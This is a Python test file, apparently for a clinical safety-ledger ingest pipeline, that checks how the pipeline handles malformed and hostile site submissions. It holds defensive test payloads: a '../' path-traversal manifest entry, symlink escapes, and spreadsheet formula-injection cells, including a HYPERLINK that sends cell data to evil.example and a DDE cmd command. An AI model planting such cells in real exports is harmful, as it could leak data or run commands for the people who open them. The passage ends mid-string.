"""Issue 3: a corpus of malformed and hostile submissions, each with one clear answer.

Every case is either
  * accepted, with its exact counts and the exact event values (nothing silently fixed), or
  * rejected whole, with its rule, a reason naming the file and what is wrong, a report
    line naming the site that must act, and nothing of it an event.

Cases already covered elsewhere are not repeated here (tests/test_ingest_submissions.py:
checksum, row count, missing listed file, unlisted CSV, ids vs folders, invalid JSON,
unknown column, a bad folder name with a valid manifest, a waiting folder;
tests/test_ingest_rows.py: one bad row per row-level rule).

To keep the file fast, the cases share two homes: every rejection lands in one landing
area ingested once (no GX run: nothing is accepted), every acceptance in another
(GX runs once per file). Each test then reads its own submission's report.

Whether anything was *opened* or *listed* is proved with a Python audit hook (PEP 578:
every open() and os.open() raises the "open" audit event, every directory listing
"os.listdir"/"os.scandir"), recorded only while an ingest runs.

Where the project writes CSV (formula injection): only submission_writer.csv_bytes, which
writes the *input* format for the seed sample, the generator and the tests. Everything the
pipeline produces is Parquet (events, quarantine) or DuckDB (the warehouse); the dashboard
has no download yet. A future CSV export (the dashboard downloads, a later issue) must
escape cells beginning with = + - @ (and tab / carriage return), e.g. by prefixing a single
quote, because free-text cells below are kept exactly as sent - which is right for the
event store, and dangerous only once a spreadsheet opens an export of them.

The 200 MB case is marked `slow` (deselect with -m "not slow").
"""
from __future__ import annotations

import codecs
import csv
import hashlib
import io
import json
import os
import subprocess
import sys
import time
from contextlib import contextmanager
from dataclasses import dataclass, field
from datetime import date, datetime, timezone
from pathlib import Path
from typing import Callable

import duckdb
import pytest

from safety_ledger import contract, event_store
from safety_ledger.home import Home
from safety_ledger.ingest import ingest_landing

EXPORTED = "2025-03-23T08:00:00+08:00"
REC = "2025-03-22T18:00:00+08:00"
INFUSION_COLUMNS = list(contract.FILES["infusions.csv"].column_names)
PATIENT = dict(patient_ref="MRN-0001", sex="female", age_at_first_dose=50, tumor_type="cervical",
               weight_kg=61.5, first_dose_date="2025-01-10", recorded_at=REC)
INFUSION = dict(infusion_ref="INF-1", patient_ref="MRN-0001", cycle=2, started_at="2025-03-22T09:40:00+08:00",
                dose_mg=375, planned_duration_min=60, protocol="standard", combination="paclitaxel;carboplatin",
                premedication="dexamethasone", completed="true", recorded_at=REC)
REACTION = dict(reaction_ref="RX-1", infusion_ref="INF-1", onset_min=5, term="infusion_related_reaction",
                grade=2, symptoms="rash;pruritus", treatment="infusion_stopped", outcome="recovered",
                recorded_at=REC)
RETRACTION = dict(record_type="infusion", ref="INF-9", reason="entered for the wrong patient", recorded_at=REC)
TABLES = ("patients", "infusions", "reactions", "iraes", "retractions")
QUIET = dict(progress=lambda _: None)


# --------------------------------------------------------------------------- writing

def csv_data(rows: list[dict], header: list[str] | None = None, *, eol: str = "\r\n", bom: bool = False,
             encoding: str = "utf-8") -> tuple[bytes, int]:
    """A CSV file's bytes (RFC 4180 minimal quoting) and its number of data rows."""
    header = header or list(rows[0])
    buf = io.StringIO()
    writer = csv.writer(buf, lineterminator=eol)
    writer.writerow(header)
    for row in rows:
        writer.writerow(["" if row.get(c) is None else str(row.get(c)) for c in header])
    data = buf.getvalue().encode(encoding)
    return (codecs.BOM_UTF8 + data if bom else data), len(rows)


def infusions(*changes: dict, **kw) -> tuple[bytes, int]:
    """infusions.csv with one row per change to the valid INFUSION, refs INF-1, INF-2..."""
    return csv_data([dict(INFUSION, **{"infusion_ref": f"INF-{i}", **c}) for i, c in enumerate(changes, start=1)], **kw)


def manifest_doc(site: str, sub: str, files: dict[str, tuple[bytes, int]]) -> dict:
    return {"schema_version": 1, "site_id": site, "submission_id": sub, "exported_at": EXPORTED,
            "files": {name: {"sha256": hashlib.sha256(data).hexdigest(), "rows": n}
                      for name, (data, n) in files.items()}}


def put(landing: Path, site: str, sub: str, files: dict[str, tuple[bytes, int]],
        manifest: dict | bytes | Callable[[dict], dict | bytes] | None = None) -> Path:
    """A submission folder: the files, then manifest.json (by default the correct one;
    a dict or bytes replaces it; a function receives the correct one and returns the new)."""
    folder = landing / site / sub
    folder.mkdir(parents=True, exist_ok=True)
    for name, (data, _) in files.items():
        (folder / name).write_bytes(data)
    doc = manifest_doc(site, sub, files)
    if callable(manifest):
        manifest = manifest(doc)
    elif manifest is None:
        manifest = doc
    (folder / contract.MANIFEST).write_bytes(manifest if isinstance(manifest, bytes) else json.dumps(manifest).encode())
    return folder


# --------------------------------------------------------------------------- watching

class Watch:
    """Paths opened and directories listed while active (realpath at the time, so a path
    reached through a symbolic link is recorded where it really is)."""

    active: "Watch | None" = None

    def __init__(self):
        self.opened: list[str] = []
        self.listed: list[str] = []

    def under(self, root: Path) -> tuple[list[str], list[str]]:
        r = os.path.realpath(root)
        inside = lambda p: p == r or p.startswith(r + os.sep)  # noqa: E731
        return [p for p in self.opened if inside(p)], [p for p in self.listed if inside(p)]


def _audit(event: str, args: tuple) -> None:
    w = Watch.active
    if w is None or event not in ("open", "os.listdir", "os.scandir"):
        return
    try:
        target = args[0] if args else "."
        if isinstance(target, int) or target is None:
            return
        path = os.path.realpath(os.fsdecode(target))
    except Exception:  # never disturb the code under test
        return
    (w.opened if event == "open" else w.listed).append(path)


sys.addaudithook(_audit)  # permanent for the process, inert unless Watch.active is set


@contextmanager
def watching():
    w = Watch()
    Watch.active = w
    try:
        yield w
    finally:
        Watch.active = None


# --------------------------------------------------------------------------- reading

def ledger_row(home: Home, batch_id: str) -> dict:
    [row] = [r for r in event_store.read_ledger(home) if r["batch_id"] == batch_id]
    return row


def _records(sql: str, files: list[str]) -> list[dict]:
    """Rows as dicts of plain Python values (date, aware datetime in UTC, list, str...)."""
    if not files:
        return []
    with duckdb.connect() as con:
        con.execute("SET TimeZone = 'UTC'")
        cur = con.execute(sql, {"f": files})
        names = [d[0] for d in cur.description]
        return [dict(zip(names, r)) for r in cur.fetchall()]


def all_events(home: Home) -> dict[str, list[dict]]:
    return {t: _records("SELECT * FROM read_parquet($f)", event_store.committed_files(home, t)) for t in TABLES}


def all_quarantine(home: Home) -> list[dict]:
    return _records("SELECT * FROM read_parquet($f)", [str(f) for f in sorted(home.quarantine.glob("*.parquet"))])


# =========================================================================== rejections
#
# One case: where it lands, how it is built (landing, a folder outside the landing area),
# the rule, and what its reason must say. The reason must name the file; the action the
# site must take is in the reason where the code states one, and always in report.line().

@dataclass
class Rejection:
    site: str
    sub: str
    build: Callable[[Path, Path], None]
    rule: str
    says: tuple[str, ...]
    outside_never_opened: bool = False
    folder_never_opened: bool = False

    @property
    def id(self):
        return f"{self.site}/{self.sub}"


def _manifest_change(**changes) -> Callable[[dict], dict]:
    return lambda doc: dict(doc, **changes)


def _manifest_without(key: str) -> Callable[[dict], dict]:
    return lambda doc: {k: v for k, v in doc.items() if k != key}


def _rows_value(value) -> Callable[[dict], dict]:
    def change(doc):
        doc["files"]["infusions.csv"]["rows"] = value
        return doc
    return change


def _list_as(name: str) -> Callable[[dict], dict]:
    """The manifest lists infusions.csv under another name."""
    def change(doc):
        doc["files"] = {name: doc["files"]["infusions.csv"]}
        return doc
    return change


def simple(site, sub, files=None, manifest=None):
    return lambda landing, outside: put(landing, site, sub, files or {"infusions.csv": infusions({})}, manifest)


def dotdot_entry(landing, outside):
    # `..` and `/` cannot be a folder's name on a POSIX filesystem (`..` always means the
    # parent and `/` separates names), so a folder cannot be named to escape; what a site
    # CAN send is a manifest entry naming a path. Bait: a real, correct patients.csv one
    # level up (in the site folder), which must never be opened.
    data = csv_data([PATIENT])
    (landing / "SITE-MANIFEST").mkdir(parents=True, exist_ok=True)
    (landing / "SITE-MANIFEST" / "patients.csv").write_bytes(data[0])

    def change(doc):
        doc["files"] = {"../patients.csv": {"sha256": hashlib.sha256(data[0]).hexdigest(), "rows": 1}}
        return doc
    put(landing, "SITE-MANIFEST", "dotdot-entry", {}, change)


def drugs_entry(landing, outside):
    files = {"drugs.csv": csv_data([dict(drug="aspirin")])}
    put(landing, "SITE-MANIFEST", "drugs-entry", files)


def unterminated_quote(landing, outside):
    data, _ = infusions({})
    data += b'INF-2,MRN-0001,3,2025-03-22T09:40:00+08:00,375,60,standard,,,true,"2025-03-22T18:00:00+08:00'
    put(landing, "SITE-CSV", "unterminated-quote", {"infusions.csv": (data, 2)})


def site_symlink(landing, outside):
    # a valid submission outside the landing area; the landing's site folder points at it
    target = outside / "site-target"
    put(target.parent, "site-target", "s1", {"infusions.csv": infusions({})},
        manifest_doc("SITE-LINK", "s1", {"infusions.csv": infusions({})}))
    landing.mkdir(parents=True, exist_ok=True)
    (landing / "SITE-LINK").symlink_to(target, target_is_directory=True)


def submission_symlink(landing, outside):
    target = outside / "x" / "sub-target"
    put(outside, "x", "sub-target", {"infusions.csv": infusions({})},
        manifest_doc("SITE-NAMES", "sub-link", {"infusions.csv": infusions({})}))
    (landing / "SITE-NAMES").mkdir(parents=True, exist_ok=True)
    (landing / "SITE-NAMES" / "sub-link").symlink_to(target, target_is_directory=True)


def csv_symlink(landing, outside):
    # the manifest carries the outside file's true checksum and row count: only refusing
    # to follow the link stops it
    data = infusions({})
    (outside / "secret.csv").write_bytes(data[0])
    folder = landing / "SITE-NAMES" / "csv-link"
    folder.mkdir(parents=True)
    (folder / "infusions.csv").symlink_to(outside / "secret.csv")
    (folder / contract.MANIFEST).write_text(json.dumps(manifest_doc("SITE-NAMES", "csv-link", {"infusions.csv": data})))


def manifest_symlink(landing, outside):
    files = {"infusions.csv": infusions({})}
    (outside / "manifest.json").write_text(json.dumps(manifest_doc("SITE-NAMES", "manifest-link", files)))
    folder = landing / "SITE-NAMES" / "manifest-link"
    folder.mkdir(parents=True)
    (folder / "infusions.csv").write_bytes(files["infusions.csv"][0])
    (folder / contract.MANIFEST).symlink_to(outside / "manifest.json")


def badly_named(site: str, sub: str):
    # unreadable garbage as the manifest: if the rule is the folder rule, the manifest was
    # not parsed; the audit hook shows whether any file of the folder was opened at all
    def build(landing, outside):
        put(landing, site, sub, {"infusions.csv": infusions({})}, b"\x00\xff garbage, not JSON {")
    return build


def _utf16(landing, outside):
    text = infusions({}, bom=False)[0].decode()
    put(landing, "SITE-CSV", "utf16", {"infusions.csv": (text.encode("utf-16"), 1)})


REJECTIONS = [
    # manifest
    Rejection("SITE-MANIFEST", "no-files", simple("SITE-MANIFEST", "no-files", manifest=_manifest_without("files")),
              "manifest.files", ("manifest", "'files'")),
    Rejection("SITE-MANIFEST", "schema-2", simple("SITE-MANIFEST", "schema-2", manifest=_manifest_change(schema_version=2)),
              "manifest.schema_version", ("manifest schema_version is 2", "reads 1")),
    Rejection("SITE-MANIFEST", "schema-string", simple("SITE-MANIFEST", "schema-string",
                                                       manifest=_manifest_change(schema_version="1")),
              "manifest.schema_version", ("manifest schema_version is '1'",)),
    Rejection("SITE-MANIFEST", "exported-no-offset", simple("SITE-MANIFEST", "exported-no-offset",
                                                            manifest=_manifest_change(exported_at="2025-03-23T08:00:00")),
              "manifest.exported_at", ("manifest exported_at '2025-03-23T08:00:00'", "with an offset")),
    Rejection("SITE-MANIFEST", "dotdot-entry", dotdot_entry, "manifest.unknown_file",
              ("manifest lists '../patients.csv'", "not a file of the contract")),
    Rejection("SITE-MANIFEST", "drugs-entry", drugs_entry, "manifest.unknown_file", ("manifest lists 'drugs.csv'",)),
    Rejection("SITE-MANIFEST", "rows-negative", simple("SITE-MANIFEST", "rows-negative", manifest=_rows_value(-1)),
              "manifest.files", ("manifest entry for infusions.csv", "'rows' count")),
    Rejection("SITE-MANIFEST", "rows-string", simple("SITE-MANIFEST", "rows-string", manifest=_rows_value("1")),
              "manifest.files", ("manifest entry for infusions.csv", "'rows' count")),
    Rejection("SITE-MANIFEST", "rows-bool", simple("SITE-MANIFEST", "rows-bool", manifest=_rows_value(True)),
              "manifest.files", ("manifest entry for infusions.csv",)),
    Rejection("SITE-MANIFEST", "rows-float", simple("SITE-MANIFEST", "rows-float", manifest=_rows_value(1.0)),
              "manifest.files", ("manifest entry for infusions.csv",)),
    Rejection("SITE-MANIFEST", "json-array", simple("SITE-MANIFEST", "json-array", manifest=lambda doc: [doc]),
              "manifest.invalid_json", ("manifest.json must be a JSON object",)),
    Rejection("SITE-MANIFEST", "listed-uppercase", simple("SITE-MANIFEST", "listed-uppercase",
                                                          manifest=_list_as("INFUSIONS.CSV")),
              "manifest.unknown_file", ("manifest lists 'INFUSIONS.CSV'",)),
    # CSV encodings and syntax
    Rejection("SITE-CSV", "latin1", simple("SITE-CSV", "latin1", {"infusions.csv": infusions(
        dict(infusion_ref="INF-é"), encoding="latin-1")}),
              "file.encoding", ("infusions.csv is not valid UTF-8", "export it as UTF-8")),
    Rejection("SITE-CSV", "utf16", _utf16, "file.encoding", ("infusions.csv is not valid UTF-8", "export it as UTF-8")),
    # (a 0-byte file and a wrong header are errors for the whole file, not the submission:
    #  see test_ingest_submissions.py::test_a_wrong_header_quarantines_every_row_of_its_file)
    Rejection("SITE-CSV", "unterminated-quote", unterminated_quote, "file.csv_syntax",
              ("infusions.csv is not valid RFC 4180 CSV", "check quoting")),
    # names that try to escape the landing area
    # a linked site folder is refused without being listed: one report, for the link itself
    Rejection("SITE-LINK", "(symbolic link)", site_symlink, "folder.symlink",
              ("site folder is a symbolic link", "drop the submissions themselves"), outside_never_opened=True),
    Rejection("SITE-NAMES", "sub-link", submission_symlink, "folder.symlink",
              ("symbolic link", "drop the files themselves"), outside_never_opened=True),
    Rejection("SITE-NAMES", "csv-link", csv_symlink, "file.missing",
              ("infusions.csv is listed in manifest.json but is a symbolic link", "send it again"),
              outside_never_opened=True),
    Rejection("SITE-NAMES", "manifest-link", manifest_symlink, "manifest.not_a_file",
              ("manifest.json is not a regular file",), outside_never_opened=True),
    Rejection("SITE-NAMES", "s 1", badly_named("SITE-NAMES", "s 1"), "folder.submission_id",
              ("submission folder name 's 1'", "rename the folder"), folder_never_opened=True),
    Rejection("SITE-NAMES", "s.1", badly_named("SITE-NAMES", "s.1"), "folder.submission_id",
              ("submission folder name 's.1'", "rename the folder"), folder_never_opened=True),
    # a leading dot: the contract rejects any dot; a hidden folder with a manifest must not
    # be ignored without a word to the site
    Rejection("SITE-NAMES", ".s1", badly_named("SITE-NAMES", ".s1"), "folder.submission_id",
              ("submission folder name '.s1'", "rename the folder"), folder_never_opened=True),
    Rejection("SITE X", "s1", badly_named("SITE X", "s1"), "folder.site_id",
              ("site folder name 'SITE X'", "rename the folder"), folder_never_opened=True),
]


@dataclass
class Rejected:
    home: Home
    outside: Path
    reports: dict[tuple[str, str], object]
    watch: Watch
    all_reports: list = field(default_factory=list)


@pytest.fixture(scope="module")
def rejected(tmp_path_factory) -> Rejected:
    home = Home(tmp_path_factory.mktemp("rejections") / "home")
    outside = tmp_path_factory.mktemp("outside")
    home.ensure()
    for case in REJECTIONS:
        case.build(home.landing, outside)
    with watching() as w:
        reports = ingest_landing(home, **QUIET)
    return Rejected(home, outside, {(r.site_id, r.submission_id): r for r in reports}, w, reports)


@pytest.mark.parametrize("case", REJECTIONS, ids=[c.id for c in REJECTIONS])
def test_rejected_whole_with_rule_and_reason(rejected, case):
    r = rejected.reports.get((case.site, case.sub))
    assert r is not None, f"no report at all for {case.id}: the site is never told (got {sorted(rejected.reports)})"
    assert r.status == "rejected", r.line()
    assert r.rule == case.rule, r.reason
    for fragment in case.says:
        assert fragment in r.reason, r.reason
    assert (r.rows, r.events, r.duplicates, r.quarantined) == (0, 0, 0, 0)
    line = r.line()
    assert f"site {case.site} must fix and send the submission again" in line, line
    assert f"[{case.rule}]" in line
    row = ledger_row(rejected.home, r.batch_id)
    assert (row["status"], row["rule"], row["events"]) == ("rejected", case.rule, 0)


def test_nothing_of_any_rejection_is_an_event(rejected):
    assert {r.status for r in rejected.all_reports} == {"rejected"}, [r.line() for r in rejected.all_reports]
    for t in TABLES:
        assert event_store.committed_files(rejected.home, t) == [], t
        assert list((rejected.home.events / t).glob("*")) == [], t  # not even an uncommitted file
    assert list(rejected.home.quarantine.glob("*")) == []


OUTSIDE_CASES = [c for c in REJECTIONS if c.outside_never_opened]


@pytest.mark.parametrize("case", OUTSIDE_CASES, ids=[c.id for c in OUTSIDE_CASES])
def test_symlink_escape_opens_no_file_outside_the_landing_area(rejected, case):
    opened, _ = rejected.watch.under(rejected.outside)
    assert [p for p in opened if _case_target(case, rejected.outside, p)] == []


def _case_target(case, outside: Path, path: str) -> bool:
    where = {"SITE-LINK/(symbolic link)": "site-target", "SITE-NAMES/sub-link": "x", "SITE-NAMES/csv-link": "secret.csv",
             "SITE-NAMES/manifest-link": "manifest.json"}[case.id]
    root = os.path.realpath(outside / where)
    return path == root or path.startswith(root + os.sep)


def test_symlinked_site_folder_is_not_even_listed(rejected):
    # following the site link lists a folder outside the landing area, and every folder
    # found there becomes a rejected ledger row named after it: the link must be refused
    # without descending into it
    _, listed = rejected.watch.under(rejected.outside / "site-target")
    assert listed == []


def test_manifest_entry_with_dotdot_opens_nothing_above_the_submission(rejected):
    opened, _ = rejected.watch.under(rejected.home.landing / "SITE-MANIFEST" / "patients.csv")
    assert opened == []


NAME_CASES = [c for c in REJECTIONS if c.folder_never_opened]


@pytest.mark.parametrize("case", NAME_CASES, ids=[c.id for c in NAME_CASES])
def test_badly_named_folder_is_rejected_before_a_file_is_opened(rejected, case):
    opened, _ = rejected.watch.under(rejected.home.landing / case.site / case.sub)
    assert opened == [], "the contract: rejected before a file is opened"


# =========================================================================== acceptances

LONG_REF = "L" * 10_000            # the contract sets no length limit on a *_ref
HUGE_REF = "H" * 200_000           # beyond Python csv's default field limit (131072)
QUOTED_REF = 'a,b "quoted" \r\nsecond line\nthird, "last"'
QUOTED_REASON = 'wrong patient, see "note 3"\r\nsigned: Dr. O\'Neil'
UNICODE_REF = "输液-№1-é-Ωμ-😀-\u202eRTL"
UNICODE_REASON = "患者信息录入错误 — wrong patient ✓ 😀"
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)",
            "=cmd|' /C calc'!A0", "\t=1+1"]


def extremes_submission(landing):
    patients = csv_data([
        dict(PATIENT, patient_ref="P-AGE18", age_at_first_dose=18),                # 1 event
        dict(PATIENT, patient_ref="P-AGE110", age_at_first_dose=110),              # 2 event
        dict(PATIENT, patient_ref="P-LEAP", first_dose_date="2024-02-29"),         # 3 event
        dict(PATIENT, patient_ref="P-NOLEAP", first_dose_date="2025-02-29"),       # 4 quarantined
    ])
    inf = [
        dict(cycle=200),                                                            # 1
        dict(cycle=201),                                                            # 2 q
        dict(dose_mg=3000),                                                         # 3
        dict(dose_mg="3000.0001"),                                                  # 4 q
        dict(dose_mg="1e3"),                                                        # 5 = 1000.0
        dict(dose_mg="1e400"),                                                      # 6 q (overflows to inf)
        dict(dose_mg="NaN"),                                                        # 7 q
        dict(planned_duration_min=1440),                                            # 8
        dict(planned_duration_min=10),                                              # 9
        dict(infusion_ref=LONG_REF),                                                # 10
        dict(started_at="2025-03-22T01:40:00Z", recorded_at="2025-03-22T10:00:00Z"),  # 11
        dict(started_at="2025-03-21T20:40:00-05:00", recorded_at="2025-03-22T05:00:00-05:00"),  # 12
        dict(started_at="2024-02-29T09:00:00+08:00"),                               # 13
        dict(started_at="2025-02-29T09:00:00+08:00"),                               # 14 q
        dict(infusion_ref=UNICODE_REF),                                             # 15
    ]
    infusions_csv = csv_data([dict(INFUSION, **{"infusion_ref": f"INF-X{i}", **c}) for i, c in enumerate(inf, start=1)])
    reactions = csv_data([dict(REACTION, onset_min=1440)])
    retractions = csv_data([
        dict(RETRACTION, ref="INF-R1", reason="é" * 500),    # 1: 500 characters, 1000 bytes
        dict(RETRACTION, ref="INF-R2", reason="é" * 501),    # 2 q
        dict(RETRACTION, ref="INF-R3", reason="😀" * 500),    # 3: 500 characters, 2000 bytes
        dict(RETRACTION, ref="INF-R4", reason=UNICODE_REASON),  # 4
    ])
    put(landing, "SITE-VALUES", "extremes", {"patients.csv": patients, "infusions.csv": infusions_csv,
                                             "reactions.csv": reactions, "retractions.csv": retractions})


def formula_submission(landing):
    inf = csv_data([dict(INFUSION, infusion_ref=f) for f in FORMULAS])
    rx = csv_data([dict(REACTION, reaction_ref=f, infusion_ref=f) for f in FORMULAS])
    ret = csv_data([dict(RETRACTION, ref=f"INF-F{i}", reason=f) for i, f in enumerate(FORMULAS)])
    put(landing, "SITE-INJECT", "formulas", {"infusions.csv": inf, "reactions.csv": rx, "retractions.csv": ret})


def syntax_submissions(landing):
    # one site each: the same refs and recorded_at at one site would be duplicates
    put(landing, "SITE-BOM", "bom", {"infusions.csv": infusions({}, {}, bom=True)})
    put(landing, "SITE-CRLF", "crlf", {"infusions.csv": infusions({}, {}, eol="\r\n")})
    put(landing, "SITE-LF", "lf", {"infusions.csv": infusions({}, {}, eol="\n")})
    # the quoted ref in row 2, so that row 1 stays a plain control
    data = csv_data([dict(INFUSION, infusion_ref="INF-1"), dict(INFUSION, infusion_ref=QUOTED_REF)])
    put(landing, "SITE-QUOTED", "quoted", {"infusions.csv": data,
                                              "retractions.csv": csv_data([dict(RETRACTION, reason=QUOTED_REASON)])})
    header = ",".join(INFUSION_COLUMNS).encode() + b"\r\n"
    put(landing, "SITE-HEADER-ONLY", "header-only", {"infusions.csv": (header, 0)})
    good = infusions({}, {})[0].decode().split("\r\n")
    extra, short = good[1] + ",surplus", good[1].rsplit(",", 1)[0]
    extra, short = extra.replace("INF-1", "INF-EXTRA"), short.replace("INF-1", "INF-SHORT")
    shaped = "\r\n".join([good[0], good[1], extra, short, good[2]]) + "\r\n"
    put(landing, "SITE-SHAPE", "shape", {"infusions.csv": (shaped.encode(), 4)})
    put(landing, "SITE-REORDERED", "reordered", {"infusions.csv": csv_data(
        [dict(INFUSION, cycle=7, dose_mg=123.5)], header=list(reversed(INFUSION_COLUMNS)))})
    bom_manifest = codecs.BOM_UTF8 + json.dumps(manifest_doc("SITE-MANIFEST", "bom-manifest",
                                                             {"infusions.csv": infusions({})})).encode()
    put(landing, "SITE-MANIFEST", "bom-manifest", {"infusions.csv": infusions({})}, bom_manifest)
    put(landing, "SITE-HUGE", "huge-field", {"infusions.csv": csv_data([dict(INFUSION, infusion_ref=HUGE_REF)])})


@dataclass
class Accepted:
    home: Home
    reports: dict[str, object]
    events: dict[str, list[dict]]
    quarantine: list[dict]

    def report(self, sub):
        return self.reports[sub]

    def event(self, table, sub, row) -> dict:
        [e] = [e for e in self.events[table] if e["submission_id"] == sub and e["source_row"] == row]
        return e

    def event_rows(self, table, sub) -> set[int]:
        return {e["source_row"] for e in self.events[table] if e["submission_id"] == sub}

    def quarantined(self, sub, file) -> dict[int, dict]:
        return {q["source_row"]: q for q in self.quarantine if q["submission_id"] == sub and q["source_file"] == file}


@pytest.fixture(scope="module")
def accepted(tmp_path_factory) -> Accepted:
    home = Home(tmp_path_factory.mktemp("acceptances") / "home")
    extremes_submission(home.landing)
    formula_submission(home.landing)
    syntax_submissions(home.landing)
    reports = ingest_landing(home, **QUIET)
    by_sub = {r.submission_id: r for r in reports}
    assert len(by_sub) == len(reports)
    return Accepted(home, by_sub, all_events(home), all_quarantine(home))


def _counts(r):
    return (r.status, r.rows, r.events, r.duplicates, r.quarantined)


# --- manifest with a BOM ------------------------------------------------------------------

def test_manifest_with_bom_is_accepted(accepted):
    assert _counts(accepted.report("bom-manifest")) == ("accepted", 1, 1, 0, 0)


# --- CSV encodings and syntax ----------------------------------------------------------------

@pytest.mark.parametrize("sub", ["bom", "crlf", "lf"])
def test_bom_and_line_ends_are_accepted_with_values_intact(accepted, sub):
    assert _counts(accepted.report(sub)) == ("accepted", 2, 2, 0, 0)
    first, last = accepted.event("infusions", sub, 1), accepted.event("infusions", sub, 2)
    assert first["infusion_ref"] == "INF-1"           # no BOM glued to the first cell
    assert last["recorded_at_text"] == REC           # no \r left on the last cell
    assert (last["cycle"], last["dose_mg"], last["completed"]) == (2, 375.0, True)


def test_quoted_newlines_commas_and_doubled_quotes_are_kept_exactly(accepted):
    assert _counts(accepted.report("quoted")) == ("accepted", 3, 3, 0, 0)
    assert accepted.event("infusions", "quoted", 2)["infusion_ref"] == QUOTED_REF
    assert accepted.event("retractions", "quoted", 1)["reason"] == QUOTED_REASON


def test_header_only_file_is_accepted_with_no_rows(accepted):
    r = accepted.report("header-only")
    assert _counts(r) == ("accepted", 0, 0, 0, 0)
    assert r.files["infusions.csv"].rows == 0
    assert accepted.event_rows("infusions", "header-only") == set()


def test_row_with_too_many_or_too_few_cells_is_quarantined_and_the_rest_lands(accepted):
    assert _counts(accepted.report("shape")) == ("accepted", 4, 2, 0, 2)
    assert accepted.event_rows("infusions", "shape") == {1, 4}
    q = accepted.quarantined("shape", "infusions.csv")
    assert sorted(q) == [2, 3]
    assert list(q[2]["rules"]) == ["infusions.row.shape"]
    assert list(q[3]["rules"]) == ["infusions.row.shape"]
    assert "12 cells where the header has 11" in q[2]["reason"]
    assert "10 cells where the header has 11" in q[3]["reason"]


def test_columns_in_another_order_are_accepted(accepted):
    assert _counts(accepted.report("reordered")) == ("accepted", 1, 1, 0, 0)
    e = accepted.event("infusions", "reordered", 1)
    assert (e["infusion_ref"], e["cycle"], e["dose_mg"], e["planned_duration_min"]) == ("INF-1", 7, 123.5, 60)


# --- extreme values -------------------------------------------------------------------------

def test_extremes_counts(accepted):
    r = accepted.report("extremes")
    assert r.status == "accepted", r.line()
    by_file = {f: (c.rows, c.events, c.duplicates, c.quarantined) for f, c in r.files.items()}
    assert by_file == {"patients.csv": (4, 3, 0, 1), "infusions.csv": (15, 10, 0, 5),
                       "reactions.csv": (1, 1, 0, 0), "retractions.csv": (4, 3, 0, 1)}


EXTREME_QUARANTINE = [
    ("patients.csv", 4, "patients.first_dose_date.type"),      # 2025-02-29
    ("infusions.csv", 2, "infusions.cycle.range"),             # 201
    ("infusions.csv", 4, "infusions.dose_mg.range"),           # 3000.0001
    ("infusions.csv", 6, "infusions.dose_mg.range"),           # 1e400 = inf
    ("infusions.csv", 7, "infusions.dose_mg.type"),            # NaN
    ("infusions.csv", 14, "infusions.started_at.type"),        # 2025-02-29T09:00
    ("retractions.csv", 2, "retractions.reason.length"),       # 501 characters
]


@pytest.mark.parametrize("file,row,rule", EXTREME_QUARANTINE, ids=[f"{f}:{n}:{r}" for f, n, r in EXTREME_QUARANTINE])
def test_extreme_value_past_the_bound_is_quarantined(accepted, file, row, rule):
    q = accepted.quarantined("extremes", file)
    assert row in q, f"{file} row {row} not quarantined"
    assert rule in list(q[row]["rules"]), q[row]["reason"]


EXTREME_EVENTS = [
    ("patients", 1, "age_at_first_dose", 18),
    ("patients", 2, "age_at_first_dose", 110),
    ("patients", 3, "first_dose_date", date(2024, 2, 29)),
    ("infusions", 1, "cycle", 200),
    ("infusions", 3, "dose_mg", 3000.0),
    ("infusions", 5, "dose_mg", 1000.0),          # 1e3: scientific notation is a float
    ("infusions", 8, "planned_duration_min", 1440),
    ("infusions", 9, "planned_duration_min", 10),
    ("infusions", 10, "infusion_ref", LONG_REF),  # 10,000 characters: the contract sets no limit
    ("infusions", 13, "started_local_date", date(2024, 2, 29)),
    ("infusions", 15, "infusion_ref", UNICODE_REF),
    ("reactions", 1, "onset_min", 1440),
    ("retractions", 1, "reason", "é" * 500),
    ("retractions", 3, "reason", "😀" * 500),     # length is counted in characters, not bytes
    ("retractions", 4, "reason", UNICODE_REASON),
]


@pytest.mark.parametrize("table,row,column,value", EXTREME_EVENTS,
                         ids=[f"{t}:{n}:{c}" for t, n, c, _ in EXTREME_EVENTS])
def test_extreme_value_within_the_bound_lands_exactly(accepted, table, row, column, value):
    assert accepted.event(table, "extremes", row)[column] == value


def test_timestamps_with_z_and_negative_offset(accepted):
    z, minus5 = accepted.event("infusions", "extremes", 11), accepted.event("infusions", "extremes", 12)
    utc = datetime(2025, 3, 22, 1, 40, tzinfo=timezone.utc)
    assert z["started_at"] == utc == minus5["started_at"]
    assert z["started_local_date"] == date(2025, 3, 22)
    assert minus5["started_local_date"] == date(2025, 3, 21)   # the site's own calendar day
    assert z["recorded_at_text"] == "2025-03-22T10:00:00Z"     # kept as sent
    assert minus5["recorded_at_text"] == "2025-03-22T05:00:00-05:00"
    assert minus5["recorded_at"] == datetime(2025, 3, 22, 10, tzinfo=timezone.utc)


def test_a_cell_longer_than_pythons_csv_field_limit_is_accepted(accepted):
    # the contract sets no length limit; if the pipeline wants one, it must say so (and
    # not blame quoting); today a 200,000-character cell rejects the whole submission
    r = accepted.report("huge-field")
    assert _counts(r) == ("accepted", 1, 1, 0, 0), r.line()
    assert accepted.event("infusions", "huge-field", 1)["infusion_ref"] == HUGE_REF


# --- formula injection ----------------------------------------------------------------------

@pytest.mark.parametrize("table,column", [("infusions", "infusion_ref"), ("reactions", "reaction_ref"),
                                          ("reactions", "infusion_ref"), ("retractions", "reason")])
def test_formula_like_cells_are_kept_as_data_exactly(accepted, table, column):
    r = accepted.report("formulas")
    assert _counts(r) == ("accepted", 3 * len(FORMULAS), 3 * len(FORMULAS), 0, 0), r.line()
    got = [accepted.event(table, "formulas", n)[column] for n in range(1, len(FORMULAS) + 1)]
    assert got == FORMULAS


def test_every_row_of_an_accepted_case_is_an_event_or_quarantined(accepted):
    for sub, r in accepted.reports.items():
        if r.status == "accepted":
            assert r.rows == r.events + r.duplicates + r.quarantined, sub
            assert sum(len(accepted.event_rows(t, sub)) for t in TABLES) == r.events, sub
            assert len([q for q in accepted.quarantine if q["submission_id"] == sub]) == r.quarantined, sub


# =========================================================================== 200 MB

BIG_BYTES = 200 * 1024 * 1024
RSS_LIMIT_BYTES = int(1.5 * 1024 ** 3)
_RUSAGE_WRAPPER = """
import json, resource, subprocess, sys, time
t = time.monotonic()
p = subprocess.run(sys.argv[1:], capture_output=True, text=True)
print(json.dumps({"rc": p.returncode, "stdout": p.stdout, "stderr": p.stderr[-4000:],
